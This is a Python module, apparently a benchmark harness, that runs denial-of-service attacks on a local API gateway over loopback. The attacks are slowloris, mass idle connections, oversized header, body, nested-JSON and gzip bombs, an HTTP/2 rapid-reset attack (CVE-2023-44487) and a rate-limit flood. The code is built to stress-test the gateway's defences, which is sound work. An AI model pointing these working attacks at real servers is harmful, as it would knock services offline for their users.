"""Attacks on a gateway on this machine, each in its own process: `python -m bench.attacks NAME PORT [TOKEN]`.

An attack runs until SIGTERM, then prints its figures as one line of JSON. Attacks stay on loopback.
"""

import asyncio
import contextlib
import json
import logging
import os
import resource
import signal
import struct
import sys
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager

HOST = "127.0.0.1"
IDLE_CONNECTIONS = 10_000
_RESERVED_FILES = 500
_SLOW_CONNECTIONS = 500
_FLOOD_CONNECTIONS = 100
# 50 times the chart's limits for one client: 10 writes and 50 reads per second.
FLOOD_WRITES_PER_SECOND, FLOOD_READS_PER_SECOND = 500, 2500
Tally = Counter[str]
Attack = Callable[[int, str, Tally], Awaitable[None]]


@asynccontextmanager
async def _connection(port: int, tally: Tally) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    reader, writer = await asyncio.open_connection(HOST, port)
    tally["connections"] += 1
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def _forever(once: Callable[[], Awaitable[None]], tally: Tally) -> None:
    """Repeats an attack, even if the gateway closes the connection."""
    while True:
        try:
            await once()
        except (OSError, asyncio.IncompleteReadError):
            tally["lost connections"] += 1
            await asyncio.sleep(0.01)


async def _many(count: int, once: Callable[[], Awaitable[None]], tally: Tally) -> None:
    await asyncio.gather(*(_forever(once, tally) for _ in range(count)))


async def slowloris(port: int, _: str, tally: Tally) -> None:
    """Requests that arrive a few bytes per second: half of them in their headers, half in their bodies."""
    bodies = iter(range(10**9))

    async def once() -> None:
        async with _connection(port, tally) as (reader, writer):
            writer.write(b"POST /pedidos HTTP/1.1\r\nHost: localhost\r\n")
            if next(bodies) % 2:
                writer.write(b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n")
            while not reader.at_eof():
                writer.write(b"a:b\r\n")
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(1):
                        answer = await reader.read(4096)
                    if answer:
                        tally[f"answered {answer[9:12].decode()}"] += 1
                        return
            tally["closed by the gateway"] += 1

    await _many(_SLOW_CONNECTIONS, once, tally)


async def idle(port: int, _: str, tally: Tally) -> None:
    """Opens as many connections as the file limit allows, up to 10,000. Each sends one request and stays silent."""
    files = resource.getrlimit(resource.RLIMIT_NOFILE)[0]

    async def once() -> None:
        async with _connection(port, tally) as (reader, writer):
            writer.write(b"GET /nothing HTTP/1.1\r\nHost: localhost\r\n\r\n")
            while await reader.read(4096):
                tally["answers"] += 1
            tally["closed by the gateway"] += 1
        await asyncio.sleep(0.1)

    tasks: list[asyncio.Task[None]] = []
    for number in range(min(IDLE_CONNECTIONS, files - _RESERVED_FILES)):
        tasks.append(asyncio.create_task(_forever(once, tally)))
        if number % 100 == 0:
            await asyncio.sleep(0.02)
    await asyncio.gather(*tasks)


async def bombs(port: int, token: str, tally: Tally) -> None:
    """Headers and bodies far beyond the limits, and deeply nested JSON within them."""
    start = b"POST /pedidos HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    start += f"Authorization: Bearer {token}\r\n".encode()
    nested = b"[" * 32_000 + b"]" * 32_000
    kinds = [
        start + b"X: " + b"a" * 1_000_000 + b"\r\n\r\n",
        start + b"".join(b"X-%d: a\r\n" % n for n in range(5000)) + b"\r\n",
        start + b"Transfer-Encoding: chunked\r\n\r\n" + (b"10000\r\n" + b"x" * 65536 + b"\r\n") * 100,
        start + b"Content-Length: 1000000000\r\n\r\n" + b"x" * 1_000_000,
        start + b"Content-Length: %d\r\n\r\n" % len(nested) + nested,
        start + b"Content-Encoding: gzip\r\nContent-Length: 60000\r\n\r\n" + b"\x1f\x8b" + b"\0" * 59_998,
    ]
    turns = iter(range(10**9))

    async def once() -> None:
        async with _connection(port, tally) as (reader, writer):
            writer.write(kinds[next(turns) % len(kinds)])
            async with asyncio.timeout(5):
                answer = await reader.read(4096)
            tally[f"answered {answer[9:12].decode()}" if answer else "closed by the gateway"] += 1

    await _many(8, once, tally)


_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _GOAWAY = 0, 1, 3, 4, 7


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113, section 4.1."""
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def _request(path: bytes) -> bytes:
    """GET of a path in HPACK without Huffman code (RFC 7541): method and scheme indexed, the rest literal."""
    return b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x01x"


async def rapid_reset(port: int, _: str, tally: Tally) -> None:
    """HTTP/2 streams that are opened and immediately reset (CVE-2023-44487), on a path that needs no token."""
    request = _request(b"/schema/pedidos/openapi.json")

    async def once() -> None:
        async with _connection(port, tally) as (reader, writer):
            writer.write(_PREFACE + _frame(_SETTINGS, 0, 0))
            stream = 1
            while not (reader.at_eof() or writer.transport.is_closing()):
                for _ in range(50):
                    writer.write(
                        _frame(_HEADERS, 5, stream, request) + _frame(_RESET, 0, stream, struct.pack("!I", 8))
                    )
                    stream += 2
                tally["streams"] += 50
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(0.001):
                        await reader.read(65536)
            tally["closed by the gateway"] += 1

    await _many(4, once, tally)


async def flood(port: int, token: str, tally: Tally) -> None:
    """One client at 50 times its limit."""
    body = b'{"clienteId": "thief", "itens": [{"sku": "NAO-HA", "quantidade": 1}]}'
    common = f"Host: localhost\r\nAuthorization: Bearer {token}\r\n".encode()
    write = (
        b"POST /pedidos HTTP/1.1\r\n"
        + common
        + b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
        + body
    )
    read = b"GET /pedidos?clienteId=thief&limite=1 HTTP/1.1\r\n" + common + b"\r\n"
    began = time.monotonic()
    sent = 0

    async def once() -> None:
        nonlocal sent
        async with _connection(port, tally) as (reader, writer):
            while not reader.at_eof():
                due = (time.monotonic() - began) * (FLOOD_WRITES_PER_SECOND + FLOOD_READS_PER_SECOND)
                if sent >= due:
                    await asyncio.sleep(0.002)
                    continue
                sent += 1
                writer.write(write if sent % 6 == 0 else read)
                head = await reader.readuntil(b"\r\n\r\n")
                tally[f"answered {head[9:12].decode()}"] += 1
                await reader.readexactly(_length(head))

    await _many(_FLOOD_CONNECTIONS, once, tally)


def _length(head: bytes) -> int:
    for line in head.lower().split(b"\r\n"):
        if line.startswith(b"content-length:"):
            return int(line.split(b":")[1])
    return 0


ATTACKS: dict[str, Attack] = {
    "slowloris": slowloris,
    "idle": idle,
    "bombs": bombs,
    "rapid-reset": rapid_reset,
    "flood": flood,
}


async def run(name: str, port: int, token: str) -> None:
    """Attacks until SIGTERM."""
    logging.getLogger("asyncio").setLevel(logging.ERROR)  # closed connections are expected
    tally: Tally = Counter()

    def end() -> None:
        print(json.dumps(tally), flush=True)
        os._exit(0)  # thousands of connections need not be closed one by one

    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, end)
    print("ready", flush=True)
    await ATTACKS[name](port, token, tally)


if __name__ == "__main__":
    asyncio.run(run(sys.argv[1], int(sys.argv[2]), "".join(sys.argv[3:])))
